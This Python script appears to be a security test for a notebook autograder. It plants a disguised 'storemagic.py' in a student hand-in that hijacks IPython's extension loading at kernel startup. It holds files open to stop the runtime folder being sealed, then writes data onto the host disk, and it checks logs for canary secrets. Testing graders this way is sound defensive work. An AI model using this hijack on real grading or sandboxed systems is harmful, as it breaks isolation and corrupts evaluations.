"""a02: student code that runs before the first cell, from a file of the hand-in. IPython loads its default extension
`storemagic` with `import storemagic` first (IPython.core.extensions: a top-level module of that name wins over
IPython.extensions.storemagic), and the kernel has '' (its working folder: the copy of the hand-in) on sys.path before
site-packages. So a `storemagic.py` in the hand-in runs inside the kernel's startup (init_extensions), after its sockets
exist, before the grader's warm-up, its gate and its first cell.

What it tries here (ordinary user): to get in *before the runtime folder is sealed* (made read-only inside by the
launcher once the 5 socket paths exist; a remount to read-only fails with EBUSY while a file there is open for
writing, and the grader only warns on "unsealed"). It opens a file in the runtime folder for writing and keeps it open,
and says on stderr (the grader's log, labelled) when it ran and what it got. A notebook cell then reports, in its
output, what the startup code got and whether the folder is writable now; if it is, it writes WRITE_MB MiB there (the
host's disk, outside every tmpfs cap). The script polls the runtime folder's size from outside."""
import os, sys, time, threading, glob
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from u22 import *

A = "ps1_memory"
WRITE_MB = int(os.environ.get("WRITE_MB", "64"))

STOREMAGIC = r'''
import os, sys, time
T0 = time.time()
held = []
result = {"ran_at": T0}
try:
    from ipykernel.kernelapp import IPKernelApp
    import json
    app = IPKernelApp.instance()
    info = json.load(open(app.connection_file))
    rt = os.path.dirname(info["ip"])
    result["runtime"] = rt
    result["sockets_present"] = sorted(os.path.basename(p) for p in os.listdir(rt))
    for i in range(4):
        try:
            f = open(os.path.join(rt, "held-%d" % i), "wb")
            held.append(f)
        except OSError as e:
            result.setdefault("open_errors", []).append(repr(e))
            break
    result["held"] = len(held)
except BaseException as e:
    result["error"] = repr(e)
print("STOREMAGIC.PY RAN AT KERNEL START:", result, file=sys.__stderr__, flush=True)
try:
    with open("/tmp/storemagic-result", "w") as fh:
        fh.write(repr(result))
except OSError:
    pass


def load_ipython_extension(ip):
    ip.user_ns["__startup"] = result   # also visible from the notebook
'''

CELL = f'''
import os, time
print("startup code (storemagic.py) said:", open("/tmp/storemagic-result").read())
__sm = __import__("sys").modules.get("storemagic")
rt = __sm.result.get("runtime") if __sm else None
try:
    with open(os.path.join(rt, "probe-after-seal"), "wb") as fh:
        fh.write(b"x")
    print("runtime folder WRITABLE in the first cell")
    for f in __sm.held:
        f.write(b"\\0" * ({WRITE_MB} * 2**20 // max(1, len(__sm.held))))
        f.flush()
    print("wrote", {WRITE_MB}, "MiB into the grader's runtime folder", rt)
except OSError as e:
    print("runtime folder not writable in the first cell:", e)
    try:
        for f in (__sm.held if __sm else []):
            f.write(b"\\0" * 2**20); f.flush()
        print("but the fds opened at startup still write:", len(__sm.held) if __sm else 0)
    except OSError as e2:
        print("held fds refused too:", e2)
'''


def hand_in(d):
    nb = notebook(A, mutate=lambda nb: setattr(nb.cells[3], "source",
                                                "def training_memory(model, optimizer):\n    return 0\n" + CELL))
    nbformat.write(nb, os.path.join(d, fname(A)))
    with open(os.path.join(d, "storemagic.py"), "w") as fh:
        fh.write(STOREMAGIC)


def poll(stop, acc):
    while not stop.is_set():
        for d in glob.glob("/tmp/grade-kernel-*/runtime"):
            try:
                size = sum(os.path.getsize(os.path.join(d, n)) for n in os.listdir(d)
                           if os.path.isfile(os.path.join(d, n)))
                names = [n for n in os.listdir(d) if n.startswith(("held", "probe"))]
            except OSError:
                continue
            if names:
                acc[d] = max(acc.get(d, (0, []))[0], size), names
        time.sleep(0.2)


def run(tag, students):
    dest = course(tag, students)
    acc, stop = {}, threading.Event()
    th = threading.Thread(target=poll, args=(stop, acc), daemon=True); th.start()
    p = grade(dest, env=CANARY_ENV)
    stop.set(); th.join()
    out = p.stdout + p.stderr
    for line in out.splitlines():
        if any(w in line for w in ("STOREMAGIC", "sealed", "runtime folder")):
            print("LOG:", line[:600].replace(CLONE, "<clone>"))
    print("files the hostile kernel made in a grader runtime folder (seen from the host):",
          {k.split("/")[2][:13] + "...": v for k, v in acc.items()})
    print(f"{tag}: canary in grader output:", "secret@localhost" in out or "AKIASECRETCANARY123" in out)
    report(dest)
    scores(dest)
    cell_outputs(dest, "m1", A, {"training_memory"})
    cleanup(dest)


if __name__ == "__main__":
    run("a02", {("aa_honest", A): honest(A), ("m1", A): hand_in, ("zz_honest", A): honest(A)})
    print("left: ", glob.glob("/tmp/grade-kernel-*"))
